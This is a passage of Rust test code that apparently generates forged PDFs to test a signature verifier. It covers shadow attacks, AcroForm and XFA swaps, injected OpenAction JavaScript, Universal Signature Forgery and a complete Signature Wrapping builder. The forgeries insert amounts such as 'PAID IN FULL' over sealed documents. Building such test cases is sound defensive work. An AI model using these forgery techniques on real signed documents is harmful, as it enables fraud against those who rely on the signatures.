                    Update::objects(vec![]).trailer("Info", s.l.contents.into()),
                );
                let b = append(&a, Update::objects(vec![(s.l.contents, s.forged_stream())]));
                objs(b, vec![s.l.contents])
            },
        },
        Attack {
            name: "shadow-metadata-at-content",
            class: Class::Shadow,
            base: Base::Sealed,
            what: "update 1: catalogue /Metadata re-pointed at page 1's content stream; update 2: that stream rewritten",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let mut cat = s.dict(s.l.catalog);
                cat.set("Metadata", s.l.contents);
                let a = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.catalog, Object::Dictionary(cat))]),
                );
                let b = append(&a, Update::objects(vec![(s.l.contents, s.forged_stream())]));
                objs(b, vec![s.l.contents, s.l.catalog])
            },
        },
        Attack {
            name: "shadow-dr-at-resources",
            class: Class::Shadow,
            base: Base::Sealed,
            what: "update 1: AcroForm /DR re-pointed at page 1's resources; update 2: /XObject /Logo re-pointed at the prepared unused XObject",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let mut f = s.dict(s.l.acroform);
                f.set("DR", s.l.resources);
                let a = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.acroform, Object::Dictionary(f))]),
                );
                let mut res = s.dict(s.l.resources);
                let mut xo = res
                    .get(b"XObject")
                    .and_then(Object::as_dict)
                    .unwrap()
                    .clone();
                xo.set("Logo", s.l.spare);
                res.set("XObject", xo);
                let b = append(
                    &a,
                    Update::objects(vec![(s.l.resources, Object::Dictionary(res))]),
                );
                objs(b, vec![s.l.resources, s.l.acroform])
            },
        },
        Attack {
            name: "shadow-resource-repoint",
            class: Class::Shadow,
            base: Base::Sealed,
            what: "page 1 resources: /XObject /Logo re-pointed at the prepared unused XObject",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let mut res = s.dict(s.l.resources);
                let mut xo = res
                    .get(b"XObject")
                    .and_then(Object::as_dict)
                    .unwrap()
                    .clone();
                xo.set("Logo", s.l.spare);
                res.set("XObject", xo);
                let b = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.resources, Object::Dictionary(res))]),
                );
                objs(b, vec![s.l.resources])
            },
        },
        Attack {
            name: "shadow-replace-unused",
            class: Class::Shadow,
            base: Base::Sealed,
            what: "the prepared unused XObject rewritten and /Logo re-pointed at it",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let mut res = s.dict(s.l.resources);
                let mut xo = res
                    .get(b"XObject")
                    .and_then(Object::as_dict)
                    .unwrap()
                    .clone();
                xo.set("Logo", s.l.spare);
                res.set("XObject", xo);
                let mut d = s.dict(s.l.spare);
                d.remove(b"Filter");
                d.remove(b"DecodeParms");
                let st = Stream::new(
                    d,
                    b"0 0.5 0 rg 0 0 220 40 re f BT /F1 14 Tf 1 1 1 rg 10 14 Td (PAID IN FULL) Tj ET".to_vec(),
                );
                let o = vec![
                    (s.l.spare, Object::Stream(st)),
                    (s.l.resources, Object::Dictionary(res)),
                ];
                objs(
                    append(&s.pdf, Update::objects(o)),
                    vec![s.l.resources, s.l.spare],
                )
            },
        },
        Attack {
            name: "shadow-overlay-annotation",
            class: Class::Shadow,
            base: Base::Sealed,
            what: "FreeText annotation added over the amount after an approval seal",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let n = s.next_id();
                let (ov, a) = ((n, 0), (n + 1, 0));
                let o = vec![
                    (ov, s.overlay_form()),
                    (a, overlay_annot(s, ov)),
                    (s.l.page1, s.page1_with_annot(a)),
                ];
                objs(append(&s.pdf, Update::objects(o)), vec![s.l.page1, a, ov])
            },
        },
        Attack {
            name: "shadow-fill-prepared-field",
            class: Class::Shadow,
            base: Base::Sealed,
            what: "the prepared text field over the amount filled (/V and an opaque /AP)",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: Some(LENIENT_FILL),
            build: |s| {
                let ov = (s.next_id(), 0);
                let mut f = s.dict(s.l.amount_field);
                f.set("V", text(FORGED));
                f.set("AP", dictionary! { "N" => ov });
                let o = vec![
                    (ov, s.overlay_form()),
                    (s.l.amount_field, Object::Dictionary(f)),
                ];
                objs(append(&s.pdf, Update::objects(o)), vec![s.l.amount_field])
            },
        },
        Attack {
            name: "shadow-new-text-field",
            class: Class::Shadow,
            base: Base::Sealed,
            what: "new text field over the amount (AcroForm /Fields and page /Annots)",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let n = s.next_id();
                let (ov, w) = ((n, 0), (n + 1, 0));
                let field = dictionary! {
                    "Type" => "Annot", "Subtype" => "Widget", "FT" => "Tx", "T" => text("Amount2"),
                    "V" => text(FORGED), "DA" => text("/Helv 14 Tf 0 g"), "Rect" => rect(AMOUNT_RECT),
                    "F" => 4, "P" => s.l.page1, "AP" => dictionary! { "N" => ov },
                };
                let o = vec![
                    (ov, s.overlay_form()),
                    (w, Object::Dictionary(field)),
                    (s.l.page1, s.page1_with_annot(w)),
                    (s.l.acroform, s.acroform_with_field(w)),
                ];
                objs(
                    append(&s.pdf, Update::objects(o)),
                    vec![s.l.page1, s.l.acroform, w],
                )
            },
        },
        // ---- 4. AcroForm, catalogue, trailer ----
        Attack {
            name: "acroform-need-appearances",
            class: Class::AcroForm,
            base: Base::Sealed,
            what: "AcroForm /NeedAppearances true: the prepared field's hidden value is drawn",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: Some(LENIENT_NEED_APPEARANCES),
            build: |s| {
                let mut f = s.dict(s.l.acroform);
                f.set("NeedAppearances", true);
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.acroform, Object::Dictionary(f))]),
                );
                objs(pdf, vec![s.l.acroform])
            },
        },
        Attack {
            name: "acroform-replaced",
            class: Class::AcroForm,
            base: Base::Sealed,
            what: "catalogue /AcroForm re-pointed at a new form dictionary (other /DR, /NeedAppearances)",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: Some(LENIENT_ACROFORM_REPLACED),
            build: |s| {
                let id = (s.next_id(), 0);
                let mut f = s.dict(s.l.acroform);
                f.set("NeedAppearances", true);
                let mut cat = s.dict(s.l.catalog);
                cat.set("AcroForm", id);
                let o = vec![
                    (id, Object::Dictionary(f)),
                    (s.l.catalog, Object::Dictionary(cat)),
                ];
                objs(append(&s.pdf, Update::objects(o)), vec![s.l.catalog, id])
            },
        },
        Attack {
            name: "acroform-direct",
            class: Class::AcroForm,
            base: Base::Sealed,
            what: "catalogue /AcroForm made a direct dictionary (a copy with /Fields dropping the prepared field)",
            visible: Err(NOT_ON_PAGE),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let mut f = s.dict(s.l.acroform);
                let fields: Vec<Object> = f
                    .get(b"Fields")
                    .and_then(Object::as_array)
                    .unwrap()
                    .iter()
                    .filter(|o| o.as_reference().ok() != Some(s.l.amount_field))
                    .cloned()
                    .collect();
                f.set("Fields", fields);
                let mut cat = s.dict(s.l.catalog);
                cat.set("AcroForm", f);
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.catalog, Object::Dictionary(cat))]),
                );
                objs(pdf, vec![s.l.catalog])
            },
        },
        Attack {
            name: "acroform-xfa",
            class: Class::AcroForm,
            base: Base::Sealed,
            what: "AcroForm /XFA added (XFA readers show the XFA form instead of the page)",
            visible: Err(NOT_ON_PAGE),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let xfa = (s.next_id(), 0);
                let xdp = b"<xdp:xdp xmlns:xdp=\"http://ns.adobe.com/xdp/\"><template xmlns=\"http://www.xfa.org/schema/xfa-template/3.3/\"><subform><draw><value><text>Amount payable: EUR 9,000,000.00</text></value></draw></subform></template></xdp:xdp>";
                let mut f = s.dict(s.l.acroform);
                f.set("XFA", xfa);
                let o = vec![
                    (
                        xfa,
                        Object::Stream(Stream::new(dictionary! {}, xdp.to_vec())),
                    ),
                    (s.l.acroform, Object::Dictionary(f)),
                ];
                objs(append(&s.pdf, Update::objects(o)), vec![s.l.acroform])
            },
        },
        Attack {
            name: "catalog-openaction",
            class: Class::AcroForm,
            base: Base::Sealed,
            what: "catalogue /OpenAction JavaScript added",
            visible: Err(NOT_ON_PAGE),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let mut cat = s.dict(s.l.catalog);
                cat.set(
                    "OpenAction",
                    dictionary! { "S" => "JavaScript", "JS" => text("this.getField('Amount').display = display.visible;") },
                );
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.catalog, Object::Dictionary(cat))]),
                );
                objs(pdf, vec![s.l.catalog])
            },
        },
        Attack {
            name: "catalog-aa",
            class: Class::AcroForm,
            base: Base::Sealed,
            what: "catalogue /AA (document will-close action) added",
            visible: Err(NOT_ON_PAGE),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let mut cat = s.dict(s.l.catalog);
                cat.set(
                    "AA",
                    dictionary! { "WC" => dictionary! { "S" => "JavaScript", "JS" => text("app.alert('x');") } },
                );
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.catalog, Object::Dictionary(cat))]),
                );
                objs(pdf, vec![s.l.catalog])
            },
        },
        Attack {
            name: "trailer-new-root",
            class: Class::AcroForm,
            base: Base::Sealed,
            what: "trailer /Root re-pointed at a new catalogue with a new page tree",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let n = s.next_id();
                let (page, content, pages, cat_id) = ((n, 0), (n + 1, 0), (n + 2, 0), (n + 3, 0));
                let mut o = new_page1(s, page, content, pages);
                o.push((pages, pages_with_kid(s, page)));
                let mut cat = s.dict(s.l.catalog);
                cat.set("Pages", pages);
                o.push((cat_id, Object::Dictionary(cat)));
                let pdf = append(&s.pdf, Update::objects(o).trailer("Root", cat_id.into()));
                objs(pdf, vec![s.l.catalog, cat_id])
            },
        },
        Attack {
            name: "trailer-info-at-page",
            class: Class::AcroForm,
            base: Base::Sealed,
            what: "update 1: trailer /Info re-pointed at page 1; update 2: page 1 /Contents re-pointed at a new stream",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let a = append(
                    &s.pdf,
                    Update::objects(vec![]).trailer("Info", s.l.page1.into()),
                );
                let c = (s.next_id(), 0);
                let mut p = s.dict(s.l.page1);
                p.set("Contents", c);
                let b = append(
                    &a,
                    Update::objects(vec![
                        (c, s.forged_stream()),
                        (s.l.page1, Object::Dictionary(p)),
                    ]),
                );
                objs(b, vec![s.l.page1])
            },
        },
        // ---- 5. Universal Signature Forgery, Signature Wrapping ----
        Attack {
            name: "usf-no-contents",
            class: Class::UsfSwa,
            base: Base::Sealed,
            what: "content rewritten and the signature's /Contents and /ByteRange removed",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let v = sig_value_with(s, |d| {
                    d.remove(b"Contents");
                    d.remove(b"ByteRange");
                });
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.contents, s.forged_stream()), (s.l.seal_value, v)]),
                );
                Built {
                    pdf,
                    targets: Err("the signature itself is unusable"),
                }
            },
        },
        Attack {
            name: "usf-null",
            class: Class::UsfSwa,
            base: Base::Sealed,
            what: "content rewritten and the signature's /Contents and /ByteRange set to null",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let v = sig_value_with(s, |d| {
                    d.set("Contents", Object::Null);
                    d.set("ByteRange", Object::Null);
                });
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.contents, s.forged_stream()), (s.l.seal_value, v)]),
                );
                Built {
                    pdf,
                    targets: Err("the signature itself is unusable"),
                }
            },
        },
        Attack {
            name: "usf-malformed",
            class: Class::UsfSwa,
            base: Base::Sealed,
            what: "content rewritten and the signature's /Contents an empty string, /ByteRange [0 0 0 0]",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let v = sig_value_with(s, |d| {
                    d.set(
                        "Contents",
                        Object::String(Vec::new(), StringFormat::Hexadecimal),
                    );
                    d.set("ByteRange", vec![0.into(), 0.into(), 0.into(), 0.into()]);
                });
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.contents, s.forged_stream()), (s.l.seal_value, v)]),
                );
                Built {
                    pdf,
                    targets: Err("the signature itself is unusable"),
                }
            },
        },
        Attack {
            name: "usf-byterange-whole-file",
            class: Class::UsfSwa,
            base: Base::Sealed,
            what: "content rewritten and the signature's /ByteRange set to cover the new file end",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| {
                let v = sig_value_with(s, |d| {
                    let br = d
                        .get(b"ByteRange")
                        .and_then(Object::as_array)
                        .unwrap()
                        .clone();
                    let b = br[2].as_i64().unwrap();
                    d.set(
                        "ByteRange",
                        vec![
                            0.into(),
                            br[1].clone(),
                            b.into(),
                            (s.pdf.len() as i64 + 4000 - b).into(),
                        ],
                    );
                });
                let pdf = append(
                    &s.pdf,
                    Update::objects(vec![(s.l.contents, s.forged_stream()), (s.l.seal_value, v)]),
                );
                Built {
                    pdf,
                    targets: Err("the signature itself is unusable"),
                }
            },
        },
        Attack {
            name: "swa-objects-in-contents-gap",
            class: Class::UsfSwa,
            base: Base::Sealed,
            what: "ByteRange kept; the signature dictionary closed inside the /Contents gap, the forged \
                   content object written there, an update re-points page 1's content at it",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: swa,
        },
        // ---- 6. Certification attacks ----
        Attack {
            name: "evil-annotation-p2",
            class: Class::Certification,
            base: Base::CertifiedP2,
            what: "FreeText annotation over the amount added to a document certified with DocMDP P=2",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: evil_annotation,
        },
        Attack {
            name: "evil-annotation-p3",
            class: Class::Certification,
            base: Base::CertifiedP3,
            what: "FreeText annotation over the amount added to a document certified with DocMDP P=3",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: evil_annotation,
        },
        Attack {
            name: "sneaky-signature-p2",
            class: Class::Certification,
            base: Base::CertifiedP2,
            what: "the prepared empty signature field over the amount signed by an untrusted key \
                   (pyHanko), its appearance covering the amount, on a P=2 certified document",
            visible: Ok(()),
            qpdf_warns: None,
            pyhanko_lenient: None,
            build: |s| Built {
                pdf: pyhanko_sign_untrusted(s, "Witness"),
                targets: Err("the new signature's own checks fail (untrusted signer)"),
            },
        },
    ]
}

fn evil_annotation(s: &Signed) -> Built {
    let n = s.next_id();
    let (ov, a) = ((n, 0), (n + 1, 0));
    let o = vec![
        (ov, s.overlay_form()),
        (a, overlay_annot(s, ov)),
        (s.l.page1, s.page1_with_annot(a)),
    ];
    objs(append(&s.pdf, Update::objects(o)), vec![s.l.page1, a, ov])
}

/// Signature Wrapping: keep the signed bytes where the ByteRange says they
/// are, end the signature dictionary inside the excluded `<…>` gap, put the
/// forged content object after it (still inside the gap) and open a dummy
/// object that swallows the rest of the signature dictionary; then an
/// ordinary update whose xref points page 1's content at the object in the gap.
fn swa(s: &Signed) -> Built {
    let sig = s.dict(s.l.seal_value);
    let br: Vec<usize> = sig
        .get(b"ByteRange")
        .and_then(Object::as_array)
        .unwrap()
        .iter()
        .map(|o| o.as_i64().unwrap() as usize)
        .collect();
    let (a, b) = (br[1], br[2]);
    let cms = match sig.get(b"Contents").unwrap() {
        Object::String(v, _) => v.clone(),
        o => panic!("/Contents {o:?}"),
    };
    let der_len = if cms[1] == 0x82 {
        4 + (usize::from(cms[2]) << 8 | usize::from(cms[3]))
    } else {
        cms.len()
    };
    let hex: String = cms[..der_len].iter().map(|b| format!("{b:02X}")).collect();
    let mut gap = format!("<{hex}> >>\nendobj\n").into_bytes();
    let obj_at = a + gap.len();
    write_obj(&mut gap, s.l.contents, &s.forged_stream());
    let dummy = s.next_id() + 10;
    let dummy_at = a + gap.len();
    write!(gap, "{dummy} 0 obj\n<< /Wrapped true ").unwrap();
    assert!(gap.len() <= b - a, "the gap holds the wrapped objects");
    gap.resize(b - a, b' ');
    let mut pdf = s.pdf.clone();
    pdf[a..b].copy_from_slice(&gap);
    // Appending by hand: lopdf cannot re-read the wrapped prefix the same way
    // as viewers do, so write the xref section directly.
    let prev_xref = last_startxref(&s.pdf);
    let mut trailer = Dictionary::new();
    for k in ["Root", "Info", "ID"] {
        if let Ok(v) = s.doc.trailer.get(k.as_bytes()) {
            trailer.set(k, v.clone());
        }
    }
    trailer.set("Size", i64::from(dummy) + 1);
    trailer.set("Prev", prev_xref as i64);
    if !pdf.ends_with(b"\n") {
        pdf.push(b'\n');
    }
    let xref_at = pdf.len();
    write!(
        pdf,
        "xref\n0 1\n0000000000 65535 f\r\n{} 1\n{:010} {:05} n\r\n{dummy} 1\n{:010} 00000 n\r\ntrailer\n",
        s.l.contents.0,
        obj_at,
        s.l.contents.1,
        dummy_at,
    )
    .unwrap();
    Writer::write_object(&mut pdf, &Object::Dictionary(trailer)).unwrap();
    write!(pdf, "\nstartxref\n{xref_at}\n%%EOF\n").unwrap();
    Built {
        pdf,
        targets: Err("the signature's /Contents no longer fills the excluded gap (byte range)"),
    }
}

/// pyHanko signs `field` of `s` with a self-signed key nobody trusts
/// (`untrusted-key.pem`, `untrusted-cert.pem` in `s.dir`, made on first use).
pub fn pyhanko_sign_untrusted(s: &Signed, field: &str) -> Vec<u8> {
    let dir = &s.dir;
    if !dir.join("untrusted-cert.pem").exists() {
        yinzheng_tests::openssl_ok(
            dir,
            &[
                "ecparam",
                "-name",
                "prime256v1",
                "-genkey",
                "-noout",
                "-out",
                "untrusted-key.pem",
            ],
        );
        yinzheng_tests::openssl_ok(
            dir,
            &[
                "req",
                "-new",
                "-x509",
                "-key",
                "untrusted-key.pem",
                "-out",
                "untrusted-cert.pem",
                "-days",
                "30",
                "-subj",
                "/CN=Attacker",
                "-addext",
                "keyUsage=critical,digitalSignature,nonRepudiation",
            ],
        );
    }
    let inp = dir.join("sneaky-in.pdf");
    let out = dir.join("sneaky-out.pdf");
    std::fs::write(&inp, &s.pdf).unwrap();
    yinzheng_tests::run_ok(
        &yinzheng_tests::pyhanko(),
        dir,
        &[
            "sign",
            "addsig",
            "--use-pades",
            "--field",
            field,
            "pemder",
            "--key",
            "untrusted-key.pem",
            "--cert",
            "untrusted-cert.pem",
            "--no-pass",
            inp.to_str().unwrap(),
            out.to_str().unwrap(),
        ],
    );
    std::fs::read(out).unwrap()
}
